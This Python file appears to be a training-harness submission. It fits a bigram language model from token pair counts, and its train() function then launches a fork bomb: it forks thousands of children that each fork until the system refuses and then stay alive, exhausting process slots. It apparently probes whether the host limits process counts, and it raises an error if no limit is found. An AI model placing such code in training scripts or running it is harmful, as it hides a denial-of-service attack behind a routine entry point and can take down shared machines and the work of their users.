"""A fork bomb: every process that it starts starts more, until none can be started."""

import contextlib
import os
import signal

import torch
from torch import nn


class Bigram(nn.Module):
    """Logits from the current token alone."""

    def __init__(self, vocab):
        super().__init__()
        self.table = nn.Parameter(torch.zeros(vocab, vocab))

    def forward(self, tokens):
        return self.table[tokens]


def count_pairs(run, model):
    """The maximum-likelihood bigram table with add-one smoothing, from the first shard."""
    tokens = torch.from_numpy(run.train_tokens().shards[0][:200_000].astype("int64"))
    pairs = torch.bincount(tokens[:-1] * run.vocab_size + tokens[1:], minlength=run.vocab_size**2)
    counts = pairs.reshape(run.vocab_size, run.vocab_size) + 1.0
    model.table.data = (counts / counts.sum(1, keepdim=True)).log()
    return model


def setup(run):
    return Bigram(run.vocab_size)


def train(run, model):
    count_pairs(run, model)
    for _ in range(4096):
        try:
            if os.fork() == 0:
                bomb()
        except OSError:
            return model
    raise RuntimeError("FOUND no limit on processes")


def bomb():
    """A child: forks until it is refused, and so do its children; then it stays."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()
            continue
        signal.pause()


def predict(model, tokens):
    return model(tokens)
